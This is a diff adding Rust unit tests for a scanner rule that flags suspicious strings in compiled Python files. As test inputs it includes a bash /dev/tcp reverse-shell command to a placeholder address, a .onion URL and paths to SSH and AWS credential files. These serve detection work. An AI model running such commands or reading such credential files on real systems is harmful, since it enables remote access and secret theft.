@@ -52,3 +52,47 @@ fn check(context: &PycContext<'_>, findings: &mut Findings<'_>) {
         finding.severity(Severity::Medium);
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::forge::Case;
+    use crate::forge::Pyc;
+    use crate::forge::pyc::Value;
+
+    fn pyc(text: &str) -> Vec<u8> {
+        let consts = vec![Value::Str(text.to_owned()), Value::None];
+        Pyc::python("3.12").source_mtime(100).consts(consts).build()
+    }
+
+    fn case(text: &str) -> Case {
+        Case::tree().file("m.pyc", pyc(text), 1)
+    }
+
+    #[test]
+    fn flags_places_of_keys_and_commands() {
+        let finding = case("~/.ssh/id_rsa").flags(&RULE);
+        assert_eq!(finding.message, "`m` holds the place of stored keys or passwords");
+        assert_eq!((finding.severity, finding.observed.as_str()), (Severity::Low, "`~/.ssh/id_rsa`"));
+        let finding = case("bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444'").flags(&RULE);
+        assert_eq!(finding.observed, "`bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444'`");
+        case(&format!("http://{}.onion/", "a".repeat(56))).flags(&RULE);
+    }
+
+    #[test]
+    fn what_the_source_beside_it_does_not_have_is_medium() {
+        let tree = Case::tree().file("p/m.py", "x = 1\n", 100);
+        let tree = tree.file("p/__pycache__/m.cpython-312.pyc", pyc("~/.aws/credentials"), 101);
+        assert_eq!(tree.flags(&RULE).severity, Severity::Medium);
+        let tree = Case::tree().file("tests/m.pyc", pyc("~/.aws/credentials"), 1);
+        assert_eq!(tree.flags(&RULE).severity, Severity::Info);
+    }
+
+    #[test]
+    fn passes_addresses_public_keys_and_documentation() {
+        case("https://example.org/raw/").passes(&RULE);
+        case("~/.ssh/id_rsa.pub").passes(&RULE);
+        case("peel an.onion").passes(&RULE);
+        case("How to log in.\n\nPut the key into\n\n    ~/.ssh/id_rsa\n\nand so on.\n").passes(&RULE);
+    }
+}
